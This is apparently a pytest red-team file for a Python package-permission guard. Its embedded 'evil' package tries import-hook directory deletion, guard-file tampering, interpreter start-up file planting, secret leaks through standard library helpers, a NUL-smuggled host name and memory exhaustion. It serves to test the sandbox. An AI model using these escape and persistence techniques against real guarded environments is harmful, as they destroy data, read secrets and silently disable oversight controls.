"""Red team of ``permpip run``, ninth round: hooks the import system and the interpreter
call that are someone's code (or no one's) doing a package's bidding, children set up by
files rather than options or variables, and what the standard library does for a package.

1. Hooks: ``sys.meta_path`` finders and ``sys.path_importer_cache`` entries whose
   ``find_spec`` is a bound method of a standard library object; ``sys.path_hooks``
   entries that are a bound method, a standard library class, a builtin, ``shutil.rmtree``
   itself or a new function of the standard library's code object with evil's defaults;
   ``threading.excepthook`` and ``sys.unraisablehook`` bound to evil's argument.
2. Children and the guard's files: a ``preexec_fn`` exec'ing ``python -I``; the guard's
   compiled ``sitecustomize`` and a module planted in the run directory; a ``._pth`` beside
   a link to the interpreter; a ``pyvenv.cfg`` whose ``home`` has evil's ``encodings``; a
   ``.pth`` in another Python version's user site; a nearer ``pyproject.toml`` for the
   next run.
3. Reads the import system makes (``io.open_code``); environment values a standard library
   helper returns (``getproxies``, ``getuser``, ``get_exec_path``); code evil writes and
   imports (dynamic-code).
4. Hosts: a name with a NUL, cut by the C resolver (closed: within no hosts).
5. Resource exhaustion: an address-space limit while the guard judges.
6. The standard library's test extension ``_testcapi`` starting a C thread.

Harness: tests/runtime/test_guard_redteam.py's ``attack`` (``evil`` installed with a
RECORD, ``main.py`` the application). Each attack proves its effect (a directory gone, a
marker written, a request the local server received, a child's output); one the guard
stops is a plain test asserting the report, one that succeeds is ``xfail(strict=True,
raises=AssertionError)`` with its mechanism and what would close it (the effect is checked
first: an attack that no longer works fails the test).
"""

from __future__ import annotations

import importlib.util
import marshal
import sys
from pathlib import Path

import pytest

from tests.runtime.conftest import RunPermpip, Target, read_report
from tests.runtime.test_guard_redteam import CHILD, Outcome, attack
from tests.runtime.test_guard_redteam4 import SECRET, _secret
from tests.runtime.test_guard_redteam5 import _victim, took_effect
from tests.runtime.test_guard_redteam8 import bypass8 as bypass9

# -- 1. hooks that do the package's bidding --------------------------------------------------

IMPORT_MISSING = ("try:\n    import no_such_module_rt9\nexcept Exception as exc:\n"
                  "    print('import failed:', type(exc).__name__)\n")

HOOKS = {
    "meta-path-bound-method": (
        "import pathlib, sys, types\n"
        "def arm(target):\n"
        "    sys.meta_path.insert(0, types.SimpleNamespace(\n"
        "        find_spec=pathlib.Path(target).write_text))\n"),
    "path-importer-cache-bound-method": (
        "import pathlib, sys, types\n"
        "def arm(target):\n"
        "    finder = types.SimpleNamespace(find_spec=pathlib.Path(target).write_text)\n"
        "    for entry in list(sys.path):\n"
        "        sys.path_importer_cache[entry] = finder\n"),
    "path-hooks-bound-method": (
        "import pathlib, sys\n"
        "def arm(target):\n"
        "    sys.path_hooks.insert(0, pathlib.Path(target).write_text)\n"
        "    sys.path.append(target + '.entry')\n"),
    "path-hooks-stdlib-class": (
        "import logging, sys\n"
        "def arm(target):\n"
        "    sys.path_hooks.insert(0, logging.FileHandler)\n"
        "    sys.path.append(target)\n"),
    "path-hooks-builtin": (
        "import os, sys\n"
        "def arm(target):\n"
        "    sys.path_hooks.insert(0, os.mkdir)\n"
        "    sys.path.append(target)\n"),
}


HOOK_EVENTS = {"meta-path-bound-method": "open", "path-importer-cache-bound-method": "open",
               "path-hooks-bound-method": "open", "path-hooks-stdlib-class": "open",
               "path-hooks-builtin": "os.mkdir"}
USES = ([("<app>", "guard")], [("evil", "guard")], [("evil", "fs-write")])


def _hook_judged(o: Outcome, effect: bool) -> None:
    """--enforce: a correct guard reports the hook (a ``guard`` use, or evil's ``fs-write``)
    and the effect never happens; a bypass is proved by its effect with no report."""
    if not o.used:
        took_effect(effect, o)
    assert o.used in USES, o.output
    assert not effect, o.output


META = bypass9(
    "the import system calls a sys.meta_path finder's / sys.path_importer_cache entry's "
    "find_spec (a bound method of a standard library object, pathlib.Path(f).write_text) "
    "for the application's import with no frame of evil's; neither list is judged like "
    "sys.path_hooks",
    "judge finders' find_spec (meta_path and path_importer_cache entries) as path_hooks "
    "entries are: a callable no code names is guard")

CACHE = META


@pytest.mark.parametrize("hook", [
    pytest.param("meta-path-bound-method", marks=META),
    pytest.param("path-importer-cache-bound-method", marks=CACHE),
    "path-hooks-bound-method",
    "path-hooks-stdlib-class",
    "path-hooks-builtin",
])
def test_an_import_hook_that_is_a_bound_stdlib_method(tmp_path: Path, run_permpip: RunPermpip,
                                                     hook: str) -> None:
    """evil (granted nothing) puts a bound method of a standard library object where the
    import system calls it for the application's next import; the method writes a file
    whose name evil chose. A correct guard judges the write (a ``guard`` use, or evil's
    ``fs-write``) and stops it."""
    o = attack(tmp_path, run_permpip, HOOKS[hook], main=(
        "import evil\nevil.arm('@MARKER@')\n" + IMPORT_MISSING), enforce=True)
    _hook_judged(o, o.marker.exists())
    v = o.violation("guard")
    assert (v["package"], v["event"]) == ("<app>", HOOK_EVENTS[hook]), v
    assert v["detail"] == "calls a hook the guard cannot attribute", v


RM_HOOKS = {
    "path-hooks-stdlib-function": (
        "import shutil, sys\n"
        "def arm(victim):\n"
        "    sys.path_hooks.insert(0, shutil.rmtree)\n"
        "    sys.path.append(victim)\n",
        IMPORT_MISSING,
        ("<app>", "guard", "shutil.rmtree", "calls a hook the guard cannot attribute")),
    "path-hooks-stdlib-code": (
        "import shutil, sys, types\n"
        "def arm(victim):\n"
        "    sys.path_hooks.insert(0, types.FunctionType(\n"
        "        shutil._rmtree_unsafe.__code__, shutil.__dict__, 'hook', (None,)))\n"
        "    sys.path.append(victim)\n",
        IMPORT_MISSING,
        ("<app>", "guard", "os.scandir", "calls a hook the guard cannot attribute")),
    "threading-excepthook-method": (
        "import shutil, threading, types\n"
        "def arm(victim):\n"
        "    threading.excepthook = types.MethodType(shutil.rmtree, victim)\n",
        "import threading\nt = threading.Thread(target=int, args=('x',))\nt.start(); t.join()\n",
        ("<app>", "guard", "shutil.rmtree", "calls a hook the guard cannot attribute")),
    "unraisablehook-method": (
        "import shutil, sys, types\n"
        "def arm(victim):\n"
        "    sys.unraisablehook = types.MethodType(shutil.rmtree, victim)\n",
        "class A:\n    def __del__(self):\n        raise ValueError('in __del__')\nA()\n",
        ("<app>", "guard", "sys.unraisablehook",
         "calls a sys.unraisablehook the guard cannot attribute (method)")),
}


@pytest.mark.parametrize("hook", list(RM_HOOKS))
def test_a_hook_that_is_stdlib_code_with_the_packages_argument(
        tmp_path: Path, run_permpip: RunPermpip, hook: str) -> None:
    """evil sets a hook whose code is the standard library's (``shutil.rmtree`` itself,
    bound to evil's argument, or a new function of ``_rmtree_unsafe``'s code object with
    evil's defaults); the import system, threading or the interpreter calls it later with
    no frame of evil's. Refused as a hook no one's code names (``guard``, reported against
    the code that called it: the application)."""
    victim = _victim(tmp_path)
    evil, app, (package, capability, event, detail) = RM_HOOKS[hook]
    o = attack(tmp_path, run_permpip, evil, main=(
        f"import evil\nevil.arm({str(victim)!r})\n" + app), enforce=True)
    _hook_judged(o, not victim.exists())
    v = o.violation("guard")
    assert (v["package"], v["capability"], v["event"]) == (package, capability, event), v
    assert v["detail"] == detail, v


def test_changing_a_stdlib_functions_defaults_for_a_hook(tmp_path: Path,
                                                         run_permpip: RunPermpip) -> None:
    """A function evil makes of ``shutil.rmtree``'s code object is taken for the standard
    library's own: giving it keyword defaults (to make it a one-argument hook) is refused
    as a change of a standard library function."""
    victim = _victim(tmp_path)
    o = attack(tmp_path, run_permpip, (
        "import shutil, sys, types\n"
        "def arm(victim):\n"
        "    hook = types.FunctionType(shutil.rmtree.__code__, shutil.__dict__, 'h',\n"
        "                              (True, None))\n"
        "    hook.__kwdefaults__ = {'dir_fd': None}\n"
        "    sys.path_hooks.insert(0, hook)\n"
        "    sys.path.append(victim)\n"),
        main=f"import evil\nevil.arm({str(victim)!r})\n" + IMPORT_MISSING, enforce=True)
    assert victim.exists(), o.output
    assert o.used == [("evil", "guard")], o.output
    v = o.violation("guard")
    assert v["event"] == "object.__setattr__", v
    assert v["detail"] == ("changes rmtree.__kwdefaults__, a function of the standard "
                           "library"), v
    assert v["where"] == "evil/__init__.py:5", v


# -- 2. children ------------------------------------------------------------------------------


def test_preexec_fn_replaces_the_child_with_an_isolated_python(
        tmp_path: Path, run_permpip: RunPermpip) -> None:
    """evil (granted subprocess) starts a guarded child whose ``preexec_fn`` runs, in the
    forked child before its exec, ``os.execv(python -I -c CHILD)``: the guard's hook is
    still in the forked child and judges that exec."""
    o = attack(tmp_path, run_permpip, (
        "import os, subprocess, sys\n"
        f"CHILD = {CHILD!r}\n"
        "def go():\n"
        "    subprocess.run([sys.executable, '-c', 'pass'], preexec_fn=lambda: os.execv(\n"
        "        sys.executable, [sys.executable, '-I', '-c', CHILD]))\n"),
        grant='["subprocess"]', enforce=True)
    assert not o.marker.exists(), o.output
    assert ("evil", "guard") in o.used, o.output


def test_the_guards_compiled_sitecustomize(tmp_path: Path, target: Target,
                                           run_permpip: RunPermpip) -> None:
    """evil (granted fs-write, not network) finds the run directory on ``sys.path`` (no
    event) and replaces the guard's compiled ``__pycache__/sitecustomize.*.pyc`` with an
    unchecked hash-based .pyc of nothing: the next Python process would start unguarded
    and evil's network use there would go unseen."""
    data = (importlib.util.MAGIC_NUMBER + b"\x01\0\0\0" + b"\0" * 8
            + marshal.dumps(compile("", "sitecustomize", "exec")))
    o = attack(tmp_path, run_permpip, (
        "import importlib.util, os, sys\n"
        f"DATA = {data!r}\n"
        "def go():\n"
        "    for entry in sys.path:\n"
        "        if os.path.isfile(os.path.join(entry, 'policy.bin')):\n"
        "            pyc = importlib.util.cache_from_source(\n"
        "                os.path.join(entry, 'sitecustomize.py'))\n"
        "            try:\n"
        "                with open(pyc, 'wb') as f:\n"
        "                    f.write(DATA)\n"
        "            except OSError as exc:\n"
        "                print('refused:', exc)\n"
        "def beacon():\n"
        "    import urllib.request\n"
        "    urllib.request.urlopen('@URL@').read()\n"),
        grant='["fs-write"]', target=target, main=(
            "import evil, subprocess, sys\nevil.go()\n"
            "subprocess.run([sys.executable, '-c', 'import evil; evil.beacon()'])\n"))
    assert "refused: permpip: evil 1.0 may not use guard (open writes the guard's files" \
        in o.output, o.output
    assert o.used == [("evil", "guard"), ("evil", "network")], o.used  # the child guarded
    assert target.requests == ["/beacon"], o.output  # report mode: the child's use ran


PTH_LINK = bypass9(
    "a '<name>._pth' file beside a symbolic link to the interpreter (getpath reads it on "
    "every platform since 3.11) sets sys.path whole, ignores PYTHONPATH and implies -I "
    "without 'import site': the child the guard let start (a python, no option, the guard "
    "first on PYTHONPATH) never imports sitecustomize",
    "refuse (guard) starting an interpreter whose executable has a ._pth beside it or a "
    "pyvenv.cfg above it that the run did not start with, and writing such files")

PYVENV_HOME = bypass9(
    "a pyvenv.cfg beside the directory of a link to the interpreter whose 'home' leads to a "
    "standard library of the package's (links to the real one but for encodings/) runs the "
    "package's encodings before site, so before the guard",
    "refuse (guard) a Python child whose pyvenv.cfg (or ._pth) is not the run's own, as "
    "PYTHONHOME is refused")

CHILD_REPORTS = ("import sys; print('child guarded:', "
                 "any('permpip-run-' in p for p in sys.path))")


@pytest.mark.parametrize("build", [
    pytest.param(
        "    os.symlink(os.path.realpath(sys.executable), os.path.join(d, 'python3'))\n"
        "    with open(os.path.join(d, 'python3._pth'), 'w') as f:\n"
        "        f.write(os.path.dirname(os.__file__) + '\\n')\n"
        "        f.write(os.path.join(os.path.dirname(os.__file__), 'lib-dynload') + '\\n')\n"
        "    return os.path.join(d, 'python3')\n",
        marks=PTH_LINK, id="pth-beside-a-link"),
    pytest.param(
        "    std = os.path.dirname(os.__file__)\n"
        "    lib = os.path.join(d, 'fake', 'lib', os.path.basename(std))\n"
        "    os.makedirs(os.path.join(lib, 'encodings'))\n"
        "    os.makedirs(os.path.join(d, 'fake', 'bin'))\n"
        "    for name in os.listdir(std):\n"
        "        if name != 'encodings':\n"
        "            os.symlink(os.path.join(std, name), os.path.join(lib, name))\n"
        "    for name in os.listdir(os.path.join(std, 'encodings')):\n"
        "        if name != '__init__.py':\n"
        "            os.symlink(os.path.join(std, 'encodings', name),\n"
        "                       os.path.join(lib, 'encodings', name))\n"
        "    with open(os.path.join(std, 'encodings', '__init__.py')) as f:\n"
        "        real = f.read()\n"
        "    with open(os.path.join(lib, 'encodings', '__init__.py'), 'w') as f:\n"
        "        f.write(PAYLOAD + real)\n"
        "    os.makedirs(os.path.join(d, 'env', 'bin'))\n"
        "    with open(os.path.join(d, 'env', 'pyvenv.cfg'), 'w') as f:\n"
        "        f.write('home = ' + os.path.join(d, 'fake', 'bin') + '\\n')\n"
        "    exe = os.path.join(d, 'env', 'bin', 'python3')\n"
        "    os.symlink(os.path.realpath(sys.executable), exe)\n"
        "    return exe\n",
        marks=PYVENV_HOME, id="pyvenv-home"),
])
def test_a_child_interpreter_set_up_by_files_beside_it(tmp_path: Path,
                                                       run_permpip: RunPermpip,
                                                       build: str) -> None:
    """evil (granted fs-write, fs-read, subprocess: what a build tool has) lays out a
    directory with a link to the real interpreter and a start-up file beside it, then starts
    it with no option and the environment untouched. Proved by code that ran in the child
    before site (``marker.early``: evil's ``encodings``) or by a child with no guard on its
    ``sys.path`` (``._pth``: the application's CHILD says so; a correct guard refuses to
    start it)."""
    o = attack(tmp_path, run_permpip, (
        "import os, subprocess, sys, tempfile\n"
        f"CHILD = {CHILD!r} + '; ' + {CHILD_REPORTS!r}\n"
        "PAYLOAD = ('import posix\\n'\n"
        "           'fd = posix.open(%r, posix.O_WRONLY | posix.O_CREAT, 0o644)\\n'\n"
        "           'posix.write(fd, b\"x\")\\nposix.close(fd)\\n' % '@MARKER@.early')\n"
        "def build(d):\n" + build +
        "def go():\n"
        "    exe = build(tempfile.mkdtemp())\n"
        "    try:\n"
        "        subprocess.run([exe, '-c', CHILD])\n"
        "    except PermissionError as exc:\n"
        "        print('refused:', exc)\n"),
        grant='["fs-write", "fs-read", "subprocess"]', enforce=True)
    early = Path(str(o.marker) + ".early")  # evil's encodings, before site
    if not o.used:
        took_effect(early.exists() or "child guarded: False" in o.output, o)
    assert ("evil", "guard") in o.used, o.output
    assert not o.marker.exists() and not early.exists(), o.output


PY312 = Path("/root/.pyenv/versions/3.12.1/bin/python3.12")


@pytest.mark.skipif(not PY312.exists(), reason="needs a second Python version (pyenv 3.12)")
# (was a bypass: closed, a .pth written in any */site-packages is `guard`)
def test_a_pth_file_in_another_versions_user_site(tmp_path: Path,
                                                   run_permpip: RunPermpip) -> None:
    """evil (granted fs-write) plants a ``.pth`` for Python 3.12; the application (a tox or
    nox run) starts ``python3.12``, guarded as every Python child is."""
    home = tmp_path / "home"
    home.mkdir()
    o = attack(tmp_path, run_permpip, (
        "import os\n"
        "def go():\n"
        "    d = os.path.expanduser('~/.local/lib/python3.12/site-packages')\n"
        "    os.makedirs(d)\n"
        "    with open(os.path.join(d, 'rt9.pth'), 'w') as f:\n"
        "        f.write('import posix; posix.close(posix.open(%r, 65))\\n' % '@MARKER@')\n"),
        grant='["fs-write"]', env={"HOME": str(home)}, enforce=True, main=(
            "import evil, subprocess\ntry:\n    evil.go()\nexcept PermissionError:\n    pass\n"
            f"subprocess.run([{str(PY312)!r}, '-c', 'pass'])\n"))
    if not o.used:
        took_effect(o.marker.exists(), o)
    assert ("evil", "guard") in o.used, o.output
    assert not o.marker.exists(), o.output


@bypass9("a pyproject.toml evil writes in a directory of the project that has none "
         "(tests/) is not the file this run read, so not protected; the next `permpip run` "
         "started there (a monorepo member, an IDE running the tests from their directory) "
         "takes it as the nearest policy, which grants evil network",
         "refuse (guard) a package writing a pyproject.toml (or a TOML with a "
         "[tool.permissions] table) anywhere under the policy's directory, not only the file "
         "read")
def test_a_nearer_policy_planted_for_the_next_run(tmp_path: Path, target: Target,
                                                  run_permpip: RunPermpip) -> None:
    """evil (granted fs-write, not network) writes ``tests/pyproject.toml`` granting itself
    network; a later enforced run from ``tests/`` lets its request through."""
    policy = ("[tool.permissions]\ndefault = []\n\n[tool.permissions.packages]\n"
              "evil = [\"fs-write\", \"network\"]\n")
    first = attack(tmp_path, run_permpip, (
        "import os, urllib.request\n"
        f"POLICY = {policy!r}\n"
        "def go():\n"
        "    os.makedirs('tests', exist_ok=True)\n"
        "    with open(os.path.join('tests', 'pyproject.toml'), 'w') as f:\n"
        "        f.write(POLICY)\n"
        "def beacon():\n"
        "    urllib.request.urlopen('@URL@').read()\n"),
        grant='["fs-write"]', target=target, enforce=True)
    tests = tmp_path / "project" / "tests"
    planted = (tests / "pyproject.toml").exists()
    (tests / "test_x.py").write_text("import evil\nevil.beacon()\n")
    out = tests / "report2.json"
    done = run_permpip("run", "--enforce", "--format", "json", "--output", str(out), "--",
                       sys.executable, "test_x.py", cwd=tests, extra_path=[tmp_path / "site"])
    second = Outcome(done.returncode, read_report(out), done.stdout + done.stderr, out)
    if not first.used:
        took_effect(planted and target.requests, second)
    assert first.used == [("evil", "guard")], first.output
    assert not target.requests and second.used == [("evil", "network")], second.output


# -- 3. reads the import system makes ----------------------------------------------------------


def test_open_code_of_a_secret(tmp_path: Path, run_permpip: RunPermpip) -> None:
    """``io.open_code`` is how the import system opens source and bytecode; called by evil
    it reads any file for it."""
    secret = _secret(tmp_path)
    o = attack(tmp_path, run_permpip, (
        "import io\n"
        f"def go():\n"
        f"    print('leaked:', io.open_code({str(secret)!r}).read())\n"), enforce=True)
    assert SECRET not in o.output, o.output
    assert o.used == [("evil", "fs-read")], o.used


def test_a_module_planted_in_the_run_directory(tmp_path: Path, run_permpip: RunPermpip) -> None:
    """The run directory is first on every child's ``PYTHONPATH``, so a module in it is
    imported before site (``encodings``) by every later Python process: evil (granted
    fs-write) writing one there is a change of the guard's files."""
    o = attack(tmp_path, run_permpip, (
        "import os, sys\n"
        "def go():\n"
        "    for entry in sys.path:\n"
        "        if os.path.isfile(os.path.join(entry, 'policy.bin')):\n"
        "            try:\n"
        "                with open(os.path.join(entry, 'encodings.py'), 'w') as f:\n"
        "                    f.write('import posix; posix.close(posix.open(%r, 65))' % "
        "'@MARKER@')\n"
        "            except OSError as exc:\n"
        "                print('refused:', exc)\n"),
        grant='["fs-write"]', main=(
            "import evil, subprocess, sys\nevil.go()\n"
            "subprocess.run([sys.executable, '-c', 'pass'])\n"))
    assert not o.marker.exists(), o.output
    assert o.used == [("evil", "guard")], o.output
    v = o.violation("guard")
    assert v["event"] == "open", v
    assert v["detail"].startswith("writes the guard's files: "), v
    assert v["detail"].endswith("/encodings.py"), v


# -- 4. capabilities through what the standard library does for the package -------------------


ENV_HELPER = bypass9(
    "a standard library helper that reads variables for itself (urllib.request.getproxies: "
    "every *_proxy, credentials included; getpass.getuser: LOGNAME/USER/LNAME/USERNAME) "
    "returns their values to evil, which called it directly; the read is the helper's own",
    "judge such a helper's environment reads as its caller's when a distribution calls it "
    "itself (as os.path.expandvars is), not when the standard library calls it")


@pytest.mark.parametrize("read, variable, value", [
    pytest.param("urllib.request.getproxies()", "HTTPS_PROXY",
                 f"http://user:{SECRET}@proxy.invalid:3128", marks=ENV_HELPER, id="getproxies"),
    pytest.param("getpass.getuser()", "LOGNAME", SECRET, marks=ENV_HELPER, id="getuser"),
    pytest.param("os.get_exec_path()", "PATH", f"/usr/bin:/{SECRET}/bin", id="get_exec_path"),
])
def test_environment_values_returned_by_a_stdlib_helper(
        tmp_path: Path, run_permpip: RunPermpip, read: str, variable: str, value: str) -> None:
    """evil (granted nothing) calls a standard library helper that reads variables for
    itself and returns their values: the values reach evil as a read of its own would.
    A correct guard judges the helper's read as its caller's (``env``) when the helper
    hands the value back."""
    o = attack(tmp_path, run_permpip, (
        "import getpass, os, urllib.request\n"
        f"def go():\n"
        f"    print('leaked:', {read})\n"), enforce=True, env={variable: value})
    if not o.used:
        took_effect(SECRET in o.output, o)
    assert o.used == [("evil", "env")], o.output
    assert SECRET not in o.output, o.output


@bypass9("evil granted fs-write writes source it computed (hex-decoded) into a module and "
         "imports it: the import system's compile and exec of a file a distribution wrote "
         "are not dynamic-code, so new code runs with no dynamic-code grant (its other uses "
         "are still evil's)",
         "count the import system compiling a file a distribution wrote during the run "
         "(the 'written' set) as that distribution's dynamic-code")
def test_code_it_writes_and_imports_is_dynamic_code(tmp_path: Path,
                                                   run_permpip: RunPermpip) -> None:
    """evil, granted fs-write (not dynamic-code), writes source it computed into a module
    and imports it: new code no scan of its wheel saw runs, as with ``exec``. The code is
    evil's (docs/runtime.md, Attribution), but the import system's compile of it is not
    counted as evil's ``dynamic-code``."""
    o = attack(tmp_path, run_permpip, (
        "import os, sys, tempfile\n"
        "def go():\n"
        "    d = tempfile.mkdtemp()\n"
        "    with open(os.path.join(d, 'rt9_planted.py'), 'w') as f:\n"
        "        f.write(bytes.fromhex('7072696e7428276e657720636f64652072616e2729').decode())\n"
        "    sys.path.insert(0, d)\n"
        "    import rt9_planted\n"), grant='["fs-write"]', enforce=True)
    if not o.used:
        took_effect("new code ran" in o.output, o)
    assert o.used == [("evil", "dynamic-code")], o.output
    assert "new code ran" not in o.output, o.output


# -- 5. hosts ----------------------------------------------------------------------------------

EXAMPLE = '{ allow = ["network"], hosts = ["*.example.test"] }'

# (the NUL case below was a bypass; closed in the guard: a name with a NUL is within no hosts)


@pytest.mark.parametrize("how", [
    "s = socket.create_connection((NAME, @PORT@))\n"
    "    s.sendall(b'GET /nul HTTP/1.0\\r\\n\\r\\n'); s.recv(100)\n",
    "[(f, t, p, _, a)] = socket.getaddrinfo(NAME, @PORT@, socket.AF_INET, socket.SOCK_STREAM)\n"
    "    s = socket.socket(f, t, p); s.connect(a)\n"
    "    s.sendall(b'GET /nul HTTP/1.0\\r\\n\\r\\n'); s.recv(100)\n",
], ids=["create_connection", "getaddrinfo"])
def test_a_name_cut_at_a_nul_by_the_resolver(tmp_path: Path, target: Target,
                                             run_permpip: RunPermpip, how: str) -> None:
    """evil may reach ``*.example.test``: ``localhost\\0.example.test`` ends as the pattern
    wants, and the C resolver reads it up to the NUL (``localhost``)."""
    o = attack(tmp_path, run_permpip, (
        "import http.client, socket\n"
        "NAME = 'localhost\\x00.example.test'\n"
        "def go():\n"
        "    try:\n"
        f"        {how.replace(chr(10) + '    ', chr(10) + '        ')}"
        "    except OSError as exc:\n"
        "        print('refused:', exc)\n"), grant=EXAMPLE, target=target, enforce=True)
    if not o.used:
        took_effect(target.requests, o)
    assert not target.requests, (o.used, o.output)
    assert o.used == [("evil", "network")], o.output
    assert "(not in its hosts)" in o.output, o.output


# -- 6. resource exhaustion --------------------------------------------------------------------


def test_an_address_space_limit_while_the_guard_judges(tmp_path: Path, target: Target,
                                                       run_permpip: RunPermpip) -> None:
    """evil lowers ``RLIMIT_AS`` to just above what the process uses, keeps a reserve it
    frees right before its request (so its own code has memory and the guard's records
    little), and makes requests until one gets through; report mode. The guard reports
    the use (its records are written with memory it does not need to allocate)."""
    o = attack(tmp_path, run_permpip, (
        "import encodings.idna, resource, socket\n"
        "def go():\n"
        "    with open('/proc/self/statm') as f:\n"
        "        pages = int(f.read().split()[0])\n"
        "    limit = pages * resource.getpagesize() + 8 * 1024 * 1024\n"
        "    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))\n"
        "    hog = []\n"
        "    last = None\n"
        "    try:\n"
        "        while True:\n"
        "            hog.append(bytearray(64 * 1024))\n"
        "    except MemoryError:\n"
        "        pass\n"
        "    for i in range(400):\n"
        "        if hog:\n"
        "            del hog[-1]\n"
        "        try:\n"
        "            s = socket.socket()\n"
        "            s.connect(('127.0.0.1', @PORT@))\n"
        "            s.sendall(b'GET /oom HTTP/1.0\\r\\n\\r\\n')\n"
        "            s.close()\n"
        "            break\n"
        "        except BaseException as exc:\n"
        "            last = exc\n"
        "    hog.clear()\n"
        "    print('tries:', i, repr(last)[:200])\n"), target=target)
    took_effect(target.requests, o)
    assert o.code == 1, o.output
    # /proc/self/statm read (fs-read), then the request: reported with its address
    assert o.used == [("evil", "fs-read"), ("evil", "network")], o.output
    assert o.violation("network")["event"] == "socket.connect", o.output


# -- 7. the standard library's test extensions ---------------------------------------------------


@bypass9("the interpreter's own test extension _testcapi (in lib-dynload: the standard "
         "library's, so loading it is not native) starts a thread from C "
         "(call_in_temporary_c_thread) with no _thread.start_new_thread event; evil's "
         "function runs in it",
         "judge importing _testcapi/_testinternalcapi/_testbuffer & co. by a distribution as "
         "native (they expose C APIs with no audit event)")
def test_a_thread_started_by_the_stdlibs_test_extension(tmp_path: Path,
                                                         run_permpip: RunPermpip) -> None:
    """evil (granted nothing: no threads, no native) runs a function of its own in a new
    OS thread started by C code."""
    pytest.importorskip("_testcapi")
    o = attack(tmp_path, run_permpip, (
        "import threading\n"
        "def go():\n"
        "    import _testcapi\n"
        "    main = threading.get_ident()\n"
        "    def work():\n"
        "        print('other thread ran:', threading.get_ident() != main)\n"
        "    _testcapi.call_in_temporary_c_thread(work)\n"), enforce=True)
    if not o.used:
        took_effect("other thread ran: True" in o.output, o)
    assert o.used in ([("evil", "threads")], [("evil", "native")]), o.output
    assert "other thread ran" not in o.output, o.output
